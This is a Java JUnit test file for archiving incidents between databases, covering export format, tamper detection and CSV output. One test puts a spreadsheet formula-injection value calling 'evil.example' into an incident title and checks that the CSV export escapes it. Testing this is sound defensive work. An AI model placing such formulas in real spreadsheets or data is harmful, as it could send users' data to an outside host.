package dev.muster.provider.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import dev.muster.spi.call.Rejected;
import dev.muster.spi.store.Claim;
import dev.muster.spi.store.IntentEnd;
import dev.muster.spi.store.IntentQuery;
import dev.muster.spi.store.Settlement;
import dev.muster.spi.store.SummaryQuery;
import java.io.BufferedReader;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import javax.sql.DataSource;
import org.h2.jdbcx.JdbcConnectionPool;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/** Taking incidents out of one database and into another. */
class ArchiveTest {

    abstract static class Stories {

        private final DataSource here = JdbcConnectionPool.create("jdbc:h2:mem:archive;DB_CLOSE_DELAY=-1", "sa", "");
        private final DataSource there = there();

        abstract DataSource there();

        private final JdbcIncidentStore from =
                JdbcIncidentStore.builder(here).schema("archive").build();
        private final JdbcIncidentStore into =
                JdbcIncidentStore.builder(there).schema("archive").build();

        @BeforeEach
        void three_incidents_in_different_states() {
            from.migrate();
            into.migrate();
            Tables.empty(here, "archive");
            Tables.empty(there, "archive");
            for (String stream : List.of("inc-1", "inc-2", "inc-3")) {
                from.append(Changes.declaration(stream, "key-" + stream));
            }
            from.append(Changes.more("inc-2", 2));
            List<Claim> claims = from.claim(Changes.request(2));
            from.settle(Changes.delivered(claims.get(0), claims.get(0).stream().equals("inc-2") ? 3 : 2));
            from.settle(new Settlement(List.of(Changes.end(claims.get(1), IntentEnd.Outcome.PARKED)), null));
            from.remember("incident-number", "3 \"of\"\n\u0001\u4e8b\ud83d\udd25");
        }

        @Test
        void what_is_taken_over_is_equal_and_gives_the_same_export() {
            String export = export(from);
            assertThat(into.archive().read(reader(export))).isEqualTo(3);

            for (String stream : List.of("inc-1", "inc-2", "inc-3")) {
                assertThat(into.read(stream, 0, 100)).isEqualTo(from.read(stream, 0, 100));
                assertThat(into.summary(stream)).isEqualTo(from.summary(stream)).isPresent();
                assertThat(into.intents(IntentQuery.of(stream))).isEqualTo(from.intents(IntentQuery.of(stream)));
                assertThat(into.ownerOf("key-" + stream))
                        .isEqualTo(from.ownerOf("key-" + stream))
                        .isPresent();
                assertThat(into.verify(stream)).isEmpty();
                assertThat(into.head(stream)).isEqualTo(from.head(stream));
            }
            assertThat(into.query(SummaryQuery.all(10))).isEqualTo(from.query(SummaryQuery.all(10)));
            assertThat(into.recall("incident-number")).isEqualTo(from.recall("incident-number"));
            assertThat(export(into)).isEqualTo(export);
            assertThat(into.claim(Changes.request(10)))
                    .as("work goes on where it stopped")
                    .isNotEmpty();
        }

        @Test
        void an_export_begins_with_its_format_and_version() {
            assertThat(export(from)).startsWith("{\"format\":\"muster-incidents\",\"version\":1}\n");
            assertThatExceptionOfType(Rejected.class)
                    .isThrownBy(() -> into.archive().read(reader("{\"format\":\"muster-incidents\",\"version\":2}\n")))
                    .withMessageContaining("line 1")
                    .withMessageContaining("\"version\":1");
        }

        @Test
        void an_export_that_somebody_changed_is_refused_by_the_entry() {
            String changed = export(from).replaceFirst("\\{\\\\\"n\\\\\":2\\}", "{\\\\\"n\\\\\":3}");
            assertThat(changed).isNotEqualTo(export(from));
            assertThatExceptionOfType(Rejected.class)
                    .isThrownBy(() -> into.archive().read(reader(changed)))
                    .withMessageContaining("entry 2 has another payload");
            assertThat(into.read("inc-1", 0, 10)).as("nothing of it is there").isEmpty();
        }

        @Test
        void an_incident_that_is_there_already_is_refused() {
            into.archive().read(reader(export(from)));
            assertThatExceptionOfType(Rejected.class)
                    .isThrownBy(() -> into.archive().read(reader(export(from))))
                    .withMessageContaining("already");
        }

        @Test
        void a_line_that_is_no_json_is_refused_by_its_place() {
            String cut = export(from).substring(0, 400);
            assertThatExceptionOfType(Rejected.class)
                    .isThrownBy(() -> into.archive().read(reader(cut)))
                    .withMessageMatching(".*line \\d+ is not JSON.*expected more.*");
        }

        @Test
        void a_sheet_has_a_version_and_a_row_for_each_incident_entry_or_effect() {
            from.append(Changes.titled("inc-4", "=IMPORTXML(\"https://evil.example\"), \"quoted\"\nand two lines"));
            List<String> incidents = csv(CsvSheet.INCIDENTS).lines().toList();
            assertThat(incidents.get(0)).startsWith("format_version,stream_id,version,title,");
            assertThat(incidents.get(1))
                    .startsWith("1,inc-1,1,Checkout fails,outage,MAJOR,3,ACTIVE,true,2026-03-01T10:00:00.123456Z,,");
            assertThat(csv(CsvSheet.INCIDENTS))
                    .contains("\"'=IMPORTXML(\"\"https://evil.example\"\"), \"\"quoted\"\"\nand two lines\"");
            assertThat(csv(CsvSheet.EVENTS).lines()).hasSize(1 + 2 + 2 + 3 + 1 + 1);
            assertThat(csv(CsvSheet.EFFECTS).lines()).hasSize(1 + 2 + 2 + 3);
        }

        private String csv(CsvSheet sheet) {
            StringWriter out = new StringWriter();
            from.archive().writeCsv(sheet, out);
            return out.toString();
        }

        private static String export(JdbcIncidentStore store) {
            StringWriter out = new StringWriter();
            store.archive().write(out);
            return out.toString();
        }

        private static BufferedReader reader(String text) {
            return new BufferedReader(new StringReader(text));
        }
    }

    @Nested
    @DisplayName("from H2 to PostgreSQL")
    @NeedsPostgresql
    class OnPostgres extends Stories {
        @Override
        DataSource there() {
            return Postgres.dataSource();
        }
    }

    @Nested
    @DisplayName("from H2 to another H2")
    class OnH2 extends Stories {
        @Override
        DataSource there() {
            return JdbcConnectionPool.create("jdbc:h2:mem:archive-there;DB_CLOSE_DELAY=-1", "sa", "");
        }
    }
}
